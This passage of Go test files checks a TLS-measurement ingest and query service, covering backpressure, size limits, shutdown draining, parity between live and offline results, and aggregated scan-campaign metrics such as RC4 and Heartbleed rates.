	}
}

// holdIngestSlot parks one ingest stream in flight on an httptest server and
// returns a release function that lets it finish.
func holdIngestSlot(t *testing.T, srv *Server, url string) (release func()) {
	t.Helper()
	pr, pw := io.Pipe()
	done := make(chan struct{})
	go func() {
		defer close(done)
		resp, err := http.Post(url+"/ingest", "text/tab-separated-values", pr)
		if err == nil {
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
		}
	}()
	waitFor(t, "the held stream to enter ingest", func() bool { return srv.inFlight.Load() == 1 })
	return func() {
		pw.Close()
		<-done
		waitFor(t, "the held stream to drain", func() bool { return srv.inFlight.Load() == 0 })
	}
}

// TestIngestBackpressureHTTP saturates a one-slot server and pins the shed
// contract: 429 with a Retry-After header, healthz gauges that report the
// saturation, and a retrying feeder that eventually lands the stream.
func TestIngestBackpressureHTTP(t *testing.T) {
	log, offline := sharedLog(t)
	srv := NewServer(core.NewLiveStudy(), WithFlushEvery(61), WithMaxInFlight(1))
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	release := holdIngestSlot(t, srv, ts.URL)

	// A second stream is shed, not queued.
	resp, err := http.Post(ts.URL+"/ingest", "text/tab-separated-values", bytes.NewReader(log))
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("saturated ingest status %d, want 429 (%s)", resp.StatusCode, body)
	}
	if got := resp.Header.Get("Retry-After"); got != fmt.Sprint(DefaultRetryAfter) {
		t.Fatalf("Retry-After = %q, want %d", got, DefaultRetryAfter)
	}

	// healthz exposes the gauges while still saturated.
	var health struct {
		InFlight    int    `json:"in_flight"`
		MaxInFlight int    `json:"max_in_flight"`
		Shed        uint64 `json:"shed"`
	}
	if err := json.Unmarshal(mustGet(t, ts.URL+"/healthz"), &health); err != nil {
		t.Fatal(err)
	}
	if health.InFlight != 1 || health.MaxInFlight != 1 || health.Shed == 0 {
		t.Fatalf("healthz gauges = %+v, want in_flight 1, max_in_flight 1, shed > 0", health)
	}

	// A retrying feeder sheds once, backs off, and succeeds once the slot
	// frees: the first sleep releases the held stream.
	var delays []time.Duration
	res, err := FeedHTTP(ts.URL, func() (io.ReadCloser, error) {
		return io.NopCloser(bytes.NewReader(log)), nil
	}, FeedOptions{
		MaxRetries: 5,
		Rand:       func() float64 { return 0 },
		Logf:       t.Logf,
		Sleep: func(d time.Duration) {
			delays = append(delays, d)
			release()
		},
	})
	if err != nil {
		t.Fatalf("FeedHTTP with retry: %v", err)
	}
	want := offline.Aggregate().TotalRecords()
	if res.Records != want || res.Attempts < 2 {
		t.Fatalf("FeedHTTP = %+v, want %d records over >= 2 attempts", res, want)
	}
	// The server's Retry-After is the backoff floor.
	if len(delays) == 0 || delays[0] < time.Duration(DefaultRetryAfter)*time.Second {
		t.Fatalf("retry delays %v ignore Retry-After %ds", delays, DefaultRetryAfter)
	}
}

// TestIngestBackpressureTCP pins the raw-TCP shed path: a saturated server
// answers "busy <seconds>" and FeedTCP retries onto the freed slot.
func TestIngestBackpressureTCP(t *testing.T) {
	log, offline := sharedLog(t)
	srv := NewServer(core.NewLiveStudy(), WithFlushEvery(71), WithMaxInFlight(1))
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	served := make(chan error, 1)
	go func() { served <- srv.ServeTCP(ln) }()

	release := holdIngestSlot(t, srv, ts.URL)

	// Raw dial while saturated: the status line is "busy <retry-after>".
	conn, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	reply, _ := io.ReadAll(conn)
	conn.Close()
	if got := strings.TrimSpace(string(reply)); got != fmt.Sprintf("busy %d", DefaultRetryAfter) {
		t.Fatalf("saturated tcp reply = %q", got)
	}

	res, err := FeedTCP(ln.Addr().String(), func() (io.ReadCloser, error) {
		return io.NopCloser(bytes.NewReader(log)), nil
	}, FeedOptions{
		MaxRetries: 5,
		Rand:       func() float64 { return 0 },
		Logf:       t.Logf,
		Sleep:      func(time.Duration) { release() },
	})
	if err != nil {
		t.Fatalf("FeedTCP with retry: %v", err)
	}
	want := offline.Aggregate().TotalRecords()
	if res.Records != want || res.Attempts < 2 {
		t.Fatalf("FeedTCP = %+v, want %d records over >= 2 attempts", res, want)
	}
	if err := srv.Close(); err != nil {
		t.Fatal(err)
	}
	if err := <-served; err != nil {
		t.Fatalf("ServeTCP: %v", err)
	}
}

// TestFeedRetryGivesUp: a server that stays saturated exhausts the retry
// budget with an error instead of spinning forever.
func TestFeedRetryGivesUp(t *testing.T) {
	hs := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Retry-After", "3")
		w.WriteHeader(http.StatusTooManyRequests)
	}))
	defer hs.Close()
	var delays []time.Duration
	_, err := FeedHTTP(hs.URL, func() (io.ReadCloser, error) {
		return io.NopCloser(strings.NewReader("")), nil
	}, FeedOptions{
		MaxRetries: 2,
		Rand:       func() float64 { return 0 },
		Sleep:      func(d time.Duration) { delays = append(delays, d) },
	})
	if err == nil || !strings.Contains(err.Error(), "still busy") {
		t.Fatalf("err = %v, want still-busy failure", err)
	}
	if len(delays) != 2 {
		t.Fatalf("%d sleeps, want 2", len(delays))
	}
	for i, d := range delays {
		if d < 3*time.Second {
			t.Fatalf("delay %d = %v below the Retry-After floor of 3s", i, d)
		}
	}
}

// TestIngestMaxBodyBytes pins the 413 path: a capped body cuts the stream
// off with RequestEntityTooLarge and keeps the prefix that fit.
func TestIngestMaxBodyBytes(t *testing.T) {
	log, _ := sharedLog(t)
	srv := NewServer(core.NewLiveStudy(), WithFlushEvery(1), WithMaxBodyBytes(4096))
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()
	resp, err := http.Post(ts.URL+"/ingest", "text/tab-separated-values", bytes.NewReader(log))
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusRequestEntityTooLarge {
		t.Fatalf("status %d, want 413", resp.StatusCode)
	}
	records, _, _, err := srv.Study().Counts()
	if err != nil {
		t.Fatal(err)
	}
	if records == 0 {
		t.Fatal("no prefix kept from the oversized stream")
	}
}

// failingSink errors on the nth record — an internal tee failure.
type failingSink struct{ n, seen int }

func (f *failingSink) Observe(*notary.Record) error {
	f.seen++
	if f.seen >= f.n {
		return errors.New("disk full")
	}
	return nil
}

func (f *failingSink) Close() error { return nil }

// TestIngestInternalErrorIs500: a failure inside the collector (the durable
// tee, not the client's bytes) answers 500, not 400.
func TestIngestInternalErrorIs500(t *testing.T) {
	log, _ := sharedLog(t)
	srv := NewServer(core.NewLiveStudy(), WithLogSink(&failingSink{n: 5}))
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()
	resp, err := http.Post(ts.URL+"/ingest", "text/tab-separated-values", bytes.NewReader(log))
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusInternalServerError {
		t.Fatalf("status %d, want 500 (%s)", resp.StatusCode, body)
	}
}

// TestStalledTCPClientReleasesClose: with an idle timeout, a client that
// stops sending mid-stream cannot wedge Server.Close behind the handler
// drain — the deadline fires, the handler exits, Close returns.
func TestStalledTCPClientReleasesClose(t *testing.T) {
	log, _ := sharedLog(t)
	srv := NewServer(core.NewLiveStudy(), WithFlushEvery(31), WithIdleTimeout(50*time.Millisecond))
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	served := make(chan error, 1)
	go func() { served <- srv.ServeTCP(ln) }()

	conn, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	// Half a stream, then silence — the stall.
	if _, err := conn.Write(log[:len(log)/2]); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "the stalled stream to enter ingest", func() bool { return srv.inFlight.Load() == 1 })

	closed := make(chan error, 1)
	go func() { closed <- srv.Close() }()
	select {
	case err := <-closed:
		if err != nil {
			t.Fatalf("Close: %v", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("Close blocked behind the stalled client — idle deadline never fired")
	}
	if err := <-served; err != nil {
		t.Fatalf("ServeTCP: %v", err)
	}
}

// flakyListener fails its first Accept calls with a retryable error.
type flakyListener struct {
	net.Listener
	failures int
}

type tempErr struct{}

func (tempErr) Error() string   { return "accept: resource temporarily unavailable" }
func (tempErr) Timeout() bool   { return false }
func (tempErr) Temporary() bool { return true }

func (fl *flakyListener) Accept() (net.Conn, error) {
	if fl.failures > 0 {
		fl.failures--
		return nil, tempErr{}
	}
	return fl.Listener.Accept()
}

// TestServeTCPRetriesTransientAccept: a burst of temporary Accept errors
// (EMFILE et al.) must not kill the accept loop; the stream that follows
// still ingests.
func TestServeTCPRetriesTransientAccept(t *testing.T) {
	log, offline := sharedLog(t)
	srv := NewServer(core.NewLiveStudy(), WithFlushEvery(83))
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	served := make(chan error, 1)
	go func() { served <- srv.ServeTCP(&flakyListener{Listener: ln, failures: 3}) }()

	res, err := FeedTCP(ln.Addr().String(), func() (io.ReadCloser, error) {
		return io.NopCloser(bytes.NewReader(log)), nil
	}, FeedOptions{})
	if err != nil {
		t.Fatalf("feed after transient accept errors: %v", err)
	}
	if want := offline.Aggregate().TotalRecords(); res.Records != want {
		t.Fatalf("fed %d records, want %d", res.Records, want)
	}
	if err := srv.Close(); err != nil {
		t.Fatal(err)
	}
	if err := <-served; err != nil {
		t.Fatalf("ServeTCP: %v", err)
	}
}

// TestServeTCPAbortsOnFatalAccept: non-transient listener failures still
// surface instead of looping forever.
func TestServeTCPAbortsOnFatalAccept(t *testing.T) {
	srv := NewServer(core.NewLiveStudy())
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	fatal := &fatalListener{Listener: ln}
	if err := srv.ServeTCP(fatal); !errors.Is(err, errFatalAccept) {
		t.Fatalf("ServeTCP = %v, want %v", err, errFatalAccept)
	}
}

var errFatalAccept = errors.New("listener wedged")

type fatalListener struct{ net.Listener }

func (fl *fatalListener) Accept() (net.Conn, error) { return nil, errFatalAccept }
