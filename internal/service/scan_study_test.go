package service

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"tlsage/internal/core"
	"tlsage/internal/scanner"
	"tlsage/internal/timeline"
)

// scanReport hand-builds one campaign report — no TCP farm, so the e2e test
// exercises exactly the study/query plumbing, deterministically.
func scanReport(hosts, ssl3, answered, rc4, cbc, tdes, hbAck, rc4only, export, vuln int) *core.CampaignReport {
	return &core.CampaignReport{
		Hosts: hosts,
		Probes: map[string]scanner.Summary{
			"ssl3only":   {Answered: ssl3},
			"chrome2015": {Answered: answered, ChoseRC4: rc4, ChoseCBC: cbc, Chose3DES: tdes, HeartbeatAck: hbAck},
			"rc4only":    {Answered: rc4only},
			"exportonly": {ChoseExport: export},
		},
		VulnerableHosts: vuln,
	}
}

// TestScanStudyOnRouter is the e2e acceptance check for hosted scan
// campaigns: a sweep's reports fold into a core.NewScanStudy, mount on the
// Router next to a passive study, and POST /studies/scan/query answers the
// campaign metrics through the same Frame/Expr pipeline — each queried value
// equal to the corresponding CampaignReport percentage method.
func TestScanStudyOnRouter(t *testing.T) {
	months := []timeline.Month{
		timeline.M(2015, time.September),
		timeline.M(2016, time.June),
		timeline.M(2018, time.May),
	}
	reports := []*core.CampaignReport{
		scanReport(200, 90, 180, 22, 108, 1, 68, 38, 56, 3),
		scanReport(150, 55, 140, 12, 70, 1, 48, 21, 30, 1),
		scanReport(180, 45, 175, 6, 63, 0, 61, 34, 2, 0),
	}
	study, err := core.NewScanStudy(months, reports)
	if err != nil {
		t.Fatal(err)
	}

	rt := NewRouter()
	if err := rt.Add("passive", NewServer(core.NewLiveStudy())); err != nil {
		t.Fatal(err)
	}
	if err := rt.Add("scan", NewServer(study)); err != nil {
		t.Fatal(err)
	}
	defer rt.Close()
	ts := httptest.NewServer(rt.Handler())
	defer ts.Close()

	// Every sweep metric, as a query over the scan study's counters, must
	// reproduce the CampaignReport percentage it was folded from.
	series := []struct {
		query string
		want  func(r *core.CampaignReport) float64
	}{
		{"pct(version:ssl3 / total)", (*core.CampaignReport).SSL3SupportPct},
		{"pct(class:rc4 / total)", (*core.CampaignReport).RC4ChosenPct},
		{"pct(class:cbc / total)", (*core.CampaignReport).CBCChosenPct},
		{"pct(class:3des / total)", (*core.CampaignReport).TDESChosenPct},
		{"pct(adv-rc4 / total)", (*core.CampaignReport).RC4SupportPct},
		{"pct(adv-export / total)", (*core.CampaignReport).ExportSupportPct},
		{"pct(offers-heartbeat / total)", (*core.CampaignReport).HeartbeatSupportPct},
		{"pct(heartbeat-ack / total)", (*core.CampaignReport).HeartbleedVulnerablePct},
	}
	for _, tc := range series {
		res, _ := postQuery(t, ts.URL+"/studies/scan/query", tc.query)
		if len(res.Series.Points) != len(months) {
			t.Fatalf("%q: %d points, want %d", tc.query, len(res.Series.Points), len(months))
		}
		for i, p := range res.Series.Points {
			if want := tc.want(reports[i]); p.Value != want {
				t.Errorf("%q month %v: got %v, want %v", tc.query, months[i], p.Value, want)
			}
		}
	}

	// Scalar shape over the mounted study: the Sep 2015 RC4 selection rate.
	res, _ := postQuery(t, ts.URL+"/studies/scan/query", "at(pct(class:rc4 / total), 2015-09)")
	if want := reports[0].RC4ChosenPct(); res.Value != want {
		t.Errorf("at() scalar: got %v, want %v", res.Value, want)
	}

	// The mounted study serves the standard healthz, including the fp: family
	// gauges (all zero here: scan campaigns carry no client fingerprints).
	resp, err := http.Get(ts.URL + "/studies/scan/healthz")
	if err != nil {
		t.Fatal(err)
	}
	raw, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("healthz: %d %v: %s", resp.StatusCode, err, raw)
	}
	var health struct {
		Records      int `json:"records"`
		Fingerprints *struct {
			Distinct   int     `json:"distinct"`
			TopK       int     `json:"top_k"`
			OtherShare float64 `json:"other_share"`
		} `json:"fingerprints"`
	}
	if err := json.Unmarshal(raw, &health); err != nil {
		t.Fatalf("healthz decode: %v\n%s", err, raw)
	}
	if health.Records != 200+150+180 {
		t.Errorf("healthz records = %d, want %d", health.Records, 200+150+180)
	}
	if health.Fingerprints == nil {
		t.Fatalf("healthz missing fingerprints gauges: %s", raw)
	}
	if health.Fingerprints.Distinct != 0 || health.Fingerprints.TopK <= 0 {
		t.Errorf("fingerprint gauges = %+v", *health.Fingerprints)
	}
}
