package service

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"tlsage/internal/analysis"
	"tlsage/internal/core"
	"tlsage/internal/notary"
	"tlsage/internal/timeline"
)

// studyLog simulates a small study once and returns its TSV log plus the
// offline study built from it — the parity reference.
var (
	logOnce    sync.Once
	logBytes   []byte
	offlineRef *core.Study
)

func sharedLog(t *testing.T) ([]byte, *core.Study) {
	t.Helper()
	logOnce.Do(func() {
		var buf bytes.Buffer
		s := core.NewStudy(40)
		s.Options.End = timeline.M(2013, time.June)
		if err := s.Run(&buf); err != nil {
			panic(err)
		}
		logBytes = buf.Bytes()
		offline := &core.Study{}
		if err := offline.LoadLog(bytes.NewReader(logBytes)); err != nil {
			panic(err)
		}
		offlineRef = offline
	})
	return logBytes, offlineRef
}

// encodeLikeServer marshals v exactly the way the server's writeJSON does,
// so byte-level parity checks compare like with like.
func encodeLikeServer(t *testing.T, v any) []byte {
	t.Helper()
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetIndent("", "  ")
	if err := enc.Encode(v); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// figureJSON mirrors the wire shape of one served figure.
type figureJSON struct {
	ID     string `json:"id"`
	Series []struct {
		Name   string `json:"name"`
		Points []struct {
			Month string  `json:"month"`
			Value float64 `json:"value"`
		} `json:"points"`
	} `json:"series"`
}

// compareFigures checks served figures against offline ones value by value,
// tolerating only last-ulp float drift (see the call site).
func compareFigures(t *testing.T, served []figureJSON, offline []analysis.Figure) {
	t.Helper()
	if len(served) != len(offline) {
		t.Fatalf("%d served figures, offline has %d", len(served), len(offline))
	}
	for i, want := range offline {
		got := served[i]
		if got.ID != want.ID || len(got.Series) != len(want.Series) {
			t.Fatalf("figure %d: %s/%d series, want %s/%d", i, got.ID, len(got.Series), want.ID, len(want.Series))
		}
		for j, ws := range want.Series {
			gs := got.Series[j]
			if gs.Name != ws.Name || len(gs.Points) != len(ws.Points) {
				t.Fatalf("%s series %d: %s/%d points, want %s/%d", want.ID, j, gs.Name, len(gs.Points), ws.Name, len(ws.Points))
			}
			for k, wp := range ws.Points {
				gp := gs.Points[k]
				diff := gp.Value - wp.Value
				if diff < 0 {
					diff = -diff
				}
				if gp.Month != wp.Month.String() || diff > 1e-9 {
					t.Fatalf("%s %s @%s = %v, want %v", want.ID, ws.Name, wp.Month, gp.Value, wp.Value)
				}
			}
		}
	}
}

func mustGet(t *testing.T, url string) []byte {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET %s: %d: %s", url, resp.StatusCode, body)
	}
	return body
}

// TestServeFeedScalarParity is the end-to-end acceptance check: a simulated
// log fed into a running server must answer /scalars byte-identically to the
// offline loadlog path, and /figures must match figure by figure.
func TestServeFeedScalarParity(t *testing.T) {
	log, offline := sharedLog(t)

	// An odd flush cadence sweeps shard boundaries across records.
	srv := NewServer(core.NewLiveStudy(), WithFlushEvery(97))
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	resp, err := http.Post(ts.URL+"/ingest", "text/tab-separated-values", bytes.NewReader(log))
	if err != nil {
		t.Fatal(err)
	}
	var fed struct {
		Records    int    `json:"records"`
		Generation uint64 `json:"generation"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&fed); err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("ingest status %d", resp.StatusCode)
	}
	wantRecords := offline.Aggregate().TotalRecords()
	if fed.Records != wantRecords {
		t.Fatalf("fed %d records, offline log has %d", fed.Records, wantRecords)
	}

	// Scalars: byte-identical to the offline study's report.
	offlineScalars, err := offline.Scalars()
	if err != nil {
		t.Fatal(err)
	}
	gotScalars := mustGet(t, ts.URL+"/scalars")
	if want := encodeLikeServer(t, offlineScalars); !bytes.Equal(gotScalars, want) {
		t.Errorf("served scalars diverge from offline loadlog:\ngot:  %s\nwant: %s", gotScalars, want)
	}

	// Figures: same parity via the bulk endpoint. Values are compared with a
	// last-ulp tolerance: Figure 5's relative-position series sums float64
	// accumulators whose merge order differs between the live shard cadence
	// and the offline parallel load. Every integer-counter series matches
	// exactly.
	offlineFigs, err := offline.Figures()
	if err != nil {
		t.Fatal(err)
	}
	var servedFigs []figureJSON
	if err := json.Unmarshal(mustGet(t, ts.URL+"/figures"), &servedFigs); err != nil {
		t.Fatal(err)
	}
	compareFigures(t, servedFigs, offlineFigs)

	// By-number and by-name lookups answer the same figure.
	byNum := mustGet(t, ts.URL+"/figure/1")
	byName := mustGet(t, ts.URL+"/figure/versions")
	if !bytes.Equal(byNum, byName) {
		t.Error("figure lookup by number and by name diverge")
	}

	// Health reflects the ingested state.
	var health struct {
		Status     string `json:"status"`
		Records    int    `json:"records"`
		Months     int    `json:"months"`
		Generation uint64 `json:"generation"`
	}
	if err := json.Unmarshal(mustGet(t, ts.URL+"/healthz"), &health); err != nil {
		t.Fatal(err)
	}
	if health.Status != "ok" || health.Records != wantRecords || health.Months == 0 ||
		health.Generation != uint64(wantRecords) {
		t.Errorf("healthz = %+v, want %d records", health, wantRecords)
	}

	// The catalog endpoint serves every spec.
	var specs []struct {
		Name   string   `json:"name"`
		Series []string `json:"series"`
	}
	if err := json.Unmarshal(mustGet(t, ts.URL+"/metrics"), &specs); err != nil {
		t.Fatal(err)
	}
	if len(specs) != len(analysis.Catalog()) {
		t.Errorf("metrics lists %d specs, catalog has %d", len(specs), len(analysis.Catalog()))
	}
}

// TestServeTCPIngestParity feeds the same log over the raw TCP path.
func TestServeTCPIngestParity(t *testing.T) {
	log, offline := sharedLog(t)
	srv := NewServer(core.NewLiveStudy(), WithFlushEvery(113))
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- srv.ServeTCP(ln) }()

	conn, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := conn.Write(log); err != nil {
		t.Fatal(err)
	}
	if err := conn.(*net.TCPConn).CloseWrite(); err != nil {
		t.Fatal(err)
	}
	reply, err := io.ReadAll(conn)
	if err != nil {
		t.Fatal(err)
	}
	conn.Close()
	want := offline.Aggregate().TotalRecords()
	if got := strings.TrimSpace(string(reply)); got != fmt.Sprintf("ok %d %d", want, want) {
		t.Fatalf("tcp reply = %q, want ok %d %d", got, want, want)
	}
	records, _, gen, err := srv.Study().Counts()
	if err != nil || records != want || gen != uint64(want) {
		t.Errorf("after tcp ingest: %d records gen %d (err %v), want %d", records, gen, err, want)
	}
	// Scalars parity holds over the TCP path too.
	served, err := srv.Study().Scalars()
	if err != nil {
		t.Fatal(err)
	}
	offlineScalars, err := offline.Scalars()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(encodeLikeServer(t, served), encodeLikeServer(t, offlineScalars)) {
		t.Error("tcp-fed scalars diverge from offline loadlog")
	}

	if err := srv.Close(); err != nil {
		t.Fatal(err)
	}
	if err := <-done; err != nil {
		t.Fatalf("ServeTCP: %v", err)
	}
}

// TestIngestBadLineKeepsPrefix pins the at-least-what-we-saw semantics: a
// malformed line fails the request with a line-tagged error, but everything
// before it stays applied — a live collector keeps what it has seen.
func TestIngestBadLineKeepsPrefix(t *testing.T) {
	srv := NewServer(core.NewLiveStudy(), WithFlushEvery(1))
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	log, _ := sharedLog(t)
	lines := bytes.SplitAfter(log, []byte{'\n'})
	var stream bytes.Buffer
	good := 0
	for _, l := range lines {
		if good == 10 {
			stream.WriteString("this is not a record\n")
			break
		}
		stream.Write(l)
		if len(l) > 0 && l[0] != '#' && !bytes.Equal(bytes.TrimSpace(l), nil) {
			good++
		}
	}
	resp, err := http.Post(ts.URL+"/ingest", "text/tab-separated-values", &stream)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("status %d, want 400", resp.StatusCode)
	}
	var reply struct {
		Error   string `json:"error"`
		Records int    `json:"records"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&reply); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(reply.Error, "line") {
		t.Errorf("error %q lacks the line tag", reply.Error)
	}
	records, _, _, err := srv.Study().Counts()
	if err != nil {
		t.Fatal(err)
	}
	if records != 10 || reply.Records != 10 {
		t.Errorf("prefix kept %d records (reply %d), want 10", records, reply.Records)
	}
}

// TestServiceConcurrentIngestAndQuery hammers /ingest from several streams
// while readers poll /healthz and /figures — run under -race. Generations
// must be monotonic per reader and the final count must equal the total fed.
func TestServiceConcurrentIngestAndQuery(t *testing.T) {
	log, offline := sharedLog(t)
	srv := NewServer(core.NewLiveStudy(), WithFlushEvery(53))
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	// Split the log body into per-producer line-aligned slices.
	const producers = 4
	lines := bytes.SplitAfter(log, []byte{'\n'})
	chunks := make([][]byte, producers)
	for i, l := range lines {
		if len(l) == 0 || l[0] == '#' {
			continue
		}
		chunks[i%producers] = append(chunks[i%producers], l...)
	}

	var wg sync.WaitGroup
	for _, chunk := range chunks {
		wg.Add(1)
		go func(chunk []byte) {
			defer wg.Done()
			resp, err := http.Post(ts.URL+"/ingest", "text/tab-separated-values", bytes.NewReader(chunk))
			if err != nil {
				t.Errorf("ingest: %v", err)
				return
			}
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			if resp.StatusCode != http.StatusOK {
				t.Errorf("ingest status %d", resp.StatusCode)
			}
		}(chunk)
	}

	stop := make(chan struct{})
	var readers sync.WaitGroup
	for r := 0; r < 3; r++ {
		readers.Add(1)
		go func() {
			defer readers.Done()
			var lastGen uint64
			for {
				select {
				case <-stop:
					return
				default:
				}
				var health struct {
					Generation uint64 `json:"generation"`
					Records    int    `json:"records"`
				}
				if err := json.Unmarshal(mustGet(t, ts.URL+"/healthz"), &health); err != nil {
					t.Errorf("healthz: %v", err)
					return
				}
				if health.Generation < lastGen {
					t.Errorf("generation went backwards: %d after %d", health.Generation, lastGen)
					return
				}
				lastGen = health.Generation
				var figs []json.RawMessage
				if err := json.Unmarshal(mustGet(t, ts.URL+"/figures"), &figs); err != nil {
					t.Errorf("figures: %v", err)
					return
				}
			}
		}()
	}

	wg.Wait()
	close(stop)
	readers.Wait()

	want := offline.Aggregate().TotalRecords()
	records, _, gen, err := srv.Study().Counts()
	if err != nil || records != want || gen != uint64(want) {
		t.Fatalf("final: %d records gen %d (err %v), want %d", records, gen, err, want)
	}
	// Interleaved sharded ingestion still lands on the exact offline result.
	served, err := srv.Study().Scalars()
	if err != nil {
		t.Fatal(err)
	}
	offlineScalars, err := offline.Scalars()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(encodeLikeServer(t, served), encodeLikeServer(t, offlineScalars)) {
		t.Error("concurrently-fed scalars diverge from offline loadlog")
	}
}

// TestFigureNotFound pins the 404 path.
func TestFigureNotFound(t *testing.T) {
	srv := NewServer(core.NewLiveStudy())
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()
	resp, err := http.Get(ts.URL + "/figure/nope")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Errorf("status %d, want 404", resp.StatusCode)
	}
}

// TestLogSinkTee verifies the durable tee: everything ingested lands in the
// teed log writer, replayable into an identical study.
func TestLogSinkTee(t *testing.T) {
	log, offline := sharedLog(t)
	var teed bytes.Buffer
	srv := NewServer(core.NewLiveStudy(), WithLogSink(notary.NewLogWriter(&teed)))
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	resp, err := http.Post(ts.URL+"/ingest", "text/tab-separated-values", bytes.NewReader(log))
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if err := srv.Close(); err != nil { // flushes the tee
		t.Fatal(err)
	}
	var replay core.Study
	if err := replay.LoadLog(&teed); err != nil {
		t.Fatal(err)
	}
	if got, want := replay.Aggregate().TotalRecords(), offline.Aggregate().TotalRecords(); got != want {
		t.Errorf("teed log replays %d records, want %d", got, want)
	}
}

// TestCloseDrainsInFlightTCPStream pins the shutdown ordering: Close must
// wait for in-flight TCP ingest handlers before flushing the durable tee,
// so every record that reached the aggregate is also in the log.
func TestCloseDrainsInFlightTCPStream(t *testing.T) {
	log, offline := sharedLog(t)
	var teed bytes.Buffer
	srv := NewServer(core.NewLiveStudy(),
		WithFlushEvery(37), WithLogSink(notary.NewLogWriter(&teed)))
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	served := make(chan error, 1)
	go func() { served <- srv.ServeTCP(ln) }()

	conn, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	// Send the first half, then Close the server mid-stream.
	half := len(log) / 2
	if _, err := conn.Write(log[:half]); err != nil {
		t.Fatal(err)
	}
	closed := make(chan error, 1)
	go func() { closed <- srv.Close() }()
	time.Sleep(20 * time.Millisecond) // let Close reach the handler drain
	if _, err := conn.Write(log[half:]); err != nil {
		t.Fatal(err)
	}
	if err := conn.(*net.TCPConn).CloseWrite(); err != nil {
		t.Fatal(err)
	}
	reply, err := io.ReadAll(conn)
	if err != nil {
		t.Fatal(err)
	}
	conn.Close()
	if !strings.HasPrefix(string(reply), "ok ") {
		t.Fatalf("tcp reply = %q", reply)
	}
	if err := <-closed; err != nil {
		t.Fatalf("Close: %v", err)
	}
	if err := <-served; err != nil {
		t.Fatalf("ServeTCP: %v", err)
	}

	want := offline.Aggregate().TotalRecords()
	records, _, _, err := srv.Study().Counts()
	if err != nil || records != want {
		t.Fatalf("aggregate has %d records (err %v), want %d", records, err, want)
	}
	var replay core.Study
	if err := replay.LoadLog(&teed); err != nil {
		t.Fatal(err)
	}
	if got := replay.Aggregate().TotalRecords(); got != want {
		t.Errorf("drained tee holds %d records, want %d — Close flushed before the stream finished", got, want)
	}
}

// TestQueryCacheEndToEnd pins the served cache behavior: X-Cache flips
// miss→hit with byte-identical bodies, cached and uncached servers answer
// identically, ingestion invalidates by generation, and /healthz reports
// the cache gauges only when a cache is attached.
func TestQueryCacheEndToEnd(t *testing.T) {
	log, _ := sharedLog(t)

	cache := analysis.NewQueryCache(128, 1<<20)
	cached := NewServer(core.NewLiveStudy(), WithQueryCache(cache, "notary"))
	tsCached := httptest.NewServer(cached.Handler())
	defer tsCached.Close()
	plain := NewServer(core.NewLiveStudy())
	tsPlain := httptest.NewServer(plain.Handler())
	defer tsPlain.Close()

	ingest := func(ts *httptest.Server) {
		t.Helper()
		resp, err := http.Post(ts.URL+"/ingest", "text/tab-separated-values", bytes.NewReader(log))
